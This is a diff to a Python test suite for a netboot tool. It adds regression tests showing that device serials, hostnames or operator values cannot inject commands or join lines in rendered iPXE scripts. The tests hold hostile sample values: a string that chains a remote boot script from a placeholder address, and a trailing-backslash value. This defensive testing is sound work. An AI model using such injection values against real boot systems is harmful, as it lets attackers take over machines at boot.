@@ -102,11 +102,21 @@ HOSTILE = "x && chain http://198.51.100.9/own.ipxe ; #rest\nreboot ${net0/ip} ||
 
 
 def _ipxe_commands(text: str) -> list[list[str]]:
-    """``text``'s commands as iPXE runs them: each line split at whitespace (exec.c
-    split_command), cut at a token starting with "#" (a comment) and at "&&", "||", ";"
-    (command_terminator), which start another command."""
+    """``text``'s commands as iPXE runs them: a line ending in a backslash continued by the
+    next (script.c, process_script: the backslash dropped, the lines joined), each line
+    split at whitespace (exec.c split_command), cut at a token starting with "#" (a comment)
+    and at "&&", "||", ";" (command_terminator), which start another command."""
+    lines: list[str] = []
+    pending = ""
+    for raw in text.split("\n")[1:]:
+        raw = pending + raw.removesuffix("\r")
+        if raw.endswith("\\"):
+            pending = raw[:-1]
+            continue
+        pending = ""
+        lines.append(raw)
     commands: list[list[str]] = []
-    for line in text.splitlines()[1:]:
+    for line in lines:
         command: list[str] = []
         for token in line.split():
             if token.startswith("#"):
@@ -120,9 +130,11 @@ def _ipxe_commands(text: str) -> list[list[str]]:
     return [c for c in commands if c]
 
 
+@pytest.mark.parametrize("hostile", [HOSTILE, "x\\"], ids=["commands", "backslash"])
 @pytest.mark.parametrize("action", [BootAction.HOLD, BootAction.INSTALL, BootAction.IGNORE,
                                     BootAction.LOCAL])
-def test_a_device_or_operator_value_adds_no_ipxe_command(action: BootAction) -> None:
+def test_a_device_or_operator_value_adds_no_ipxe_command(action: BootAction,
+                                                         hostile: str) -> None:
     """A serial, product or hostname that a host sent (an untrusted auto rule's hold names
     them in its reason) or an operator wrote, in a shipped iPXE script, runs no command of
     its own (``&& chain``, ``;``, a line break), expands no setting and comments nothing
@@ -144,7 +156,7 @@ def test_a_device_or_operator_value_adds_no_ipxe_command(action: BootAction) -> 
             machine=replace(MACHINE, hostname=host), profile=PROFILE, cluster=CLUSTER,
             k3s=K3S, token="TOKEN123", command=f"netboot machines approve {value}")))
 
-    text = script(HOSTILE)
+    text = script(hostile)
     names = [c[0] for c in _ipxe_commands(text)]
     assert names == [c[0] for c in _ipxe_commands(script("x"))], text
     assert "${" not in text, text
@@ -157,6 +169,24 @@ def test_the_ipxe_filters_encode_what_ipxe_acts_on() -> None:
     assert ipxe_text("a && b || c ; d\ne ${x} $y") == "a %26& b %7C| c %3B d%0Ae %24{x} $y"
     r = Renderer([templates_dir()])
     assert r.render_string("echo {{ v | ipxe_arg }}", {"v": "a b"}, what="t") == "echo a%20b"
+    # A line ending in a backslash is continued by the next (ipxe's script.c): a value at a
+    # line's end that ends in one took the next command in as its words (s38-attack).
+    assert ipxe_arg("C:\\x\\") == "C:%5Cx%5C"
+    assert ipxe_text("C:\\x y\\") == "C:\\x y%5C"
+
+
+def test_a_value_ending_in_a_backslash_joins_no_line_of_a_site_template() -> None:
+    """A site template writing a device's serial last on its kernel line, as README's
+    Templates section says (through ipxe_arg): a serial ending in a backslash made iPXE
+    read the next line (an imgverify, an initrd) as kernel arguments (s38-attack)."""
+    r = Renderer([templates_dir()])
+    site = ("#!ipxe\nkernel http://192.0.2.10/vmlinuz serial={{ s | ipxe_arg }}\n"
+            "imgverify vmlinuz http://192.0.2.10/vmlinuz.sig\n"
+            "echo {{ s | ipxe_text }}\nboot\n")
+    plain = _ipxe_commands(r.render_string(site, {"s": "SN1"}, what="t"))
+    hostile = _ipxe_commands(r.render_string(site, {"s": "SN1\\"}, what="t"))
+    assert [c[0] for c in hostile] == [c[0] for c in plain] == [
+        "kernel", "imgverify", "echo", "boot"], hostile
 
 
 def test_bootstrap_golden() -> None:
